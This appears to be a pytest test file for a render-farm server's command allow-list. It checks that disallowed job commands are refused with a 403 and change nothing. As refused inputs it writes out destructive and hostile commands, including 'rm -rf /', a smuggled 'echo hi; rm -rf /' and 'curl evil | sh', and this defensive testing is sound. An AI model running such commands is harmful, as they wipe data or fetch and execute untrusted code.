"""The command policy ([commands]): with patterns configured, every submit path and every
edit of a command is checked, and a refusal is a 403 naming the rule, changing nothing."""

from pathlib import Path

import httpx
import pytest

from core.config import CommandsConfig, Config, ConfigError, load
from tests.conftest import Sql
from tests.farm import submit


@pytest.fixture
def config() -> Config:
    return Config(
        commands=CommandsConfig(
            allow=[r"render -f \d+ \S+\.scn", r"echo [a-z ]*"],
            users={"bob": [r"nuke -x \S+\.nk"]},
        )
    )


def forbidden(response: httpx.Response, *words: str) -> None:
    assert response.status_code == 403, response.text
    detail = response.json()["detail"]
    for word in words:
        assert word in detail, detail


def test_allowed_commands_and_groups_are_accepted(api: httpx.Client) -> None:
    group = submit(api, title="shot")
    submit(api, parent=group, title="f1", command="render -f 1 shot.scn")
    submit(api, title="hello", command="echo hello there")


def test_a_command_matching_no_pattern_is_403_and_creates_nothing(
    api: httpx.Client, sql: Sql
) -> None:
    before = sql.snapshot()
    forbidden(
        api.put("/api/jobs", json={"title": "x", "command": "rm -rf /"}),
        "'rm -rf /'",
        "[commands] allow",
    )
    # the whole command must match, not a part of it
    forbidden(api.put("/api/jobs", json={"title": "x", "command": "echo hi; rm -rf /"}))
    assert sql.snapshot() == before


def test_a_users_own_patterns_apply_to_that_user_only(api: httpx.Client, sql: Sql) -> None:
    submit(api, title="comp", command="nuke -x comp.nk", user="bob")
    before = sql.snapshot()
    forbidden(
        api.put("/api/jobs", json={"title": "comp", "command": "nuke -x comp.nk", "user": "ana"})
    )
    assert sql.snapshot() == before


def test_the_bulk_path_refuses_the_whole_submission(api: httpx.Client, sql: Sql) -> None:
    before = sql.snapshot()
    jobs = [{"title": "ok", "command": "echo ok"}, {"title": "bad", "command": "curl evil | sh"}]
    forbidden(api.post("/api/v2/jobs/bulk", json={"parent": 0, "jobs": jobs}), "curl evil")
    assert sql.snapshot() == before


def test_the_legacy_addjob_route_is_checked_too(api: httpx.Client, sql: Sql) -> None:
    before = sql.snapshot()
    response = api.post("/xmlrpc/addjob", data={"title": "x", "cmd": "reboot"})
    assert response.status_code == 403
    assert response.text == "-1"
    assert "matches no pattern" in response.headers["X-Corral-Error"]
    assert sql.snapshot() == before


def test_editing_a_command_into_a_refused_one_is_403_and_changes_nothing(
    api: httpx.Client, sql: Sql
) -> None:
    job = submit(api, title="f", command="echo fine")
    before = sql.snapshot()
    forbidden(api.post("/api/jobs", json={str(job): {"command": "shutdown now"}}), "shutdown")
    assert sql.snapshot() == before
    assert api.post("/api/jobs", json={str(job): {"command": "echo other"}}).json() == 1


def test_a_pattern_that_is_not_a_regular_expression_stops_the_start_up(
    tmp_path: Path,
) -> None:
    path = tmp_path / "corral.toml"
    path.write_text('[commands.users]\nbob = ["render (unclosed"]\n')
    with pytest.raises(ConfigError, match=r"commands\.users\.bob.*not a regular expression"):
        load(path)
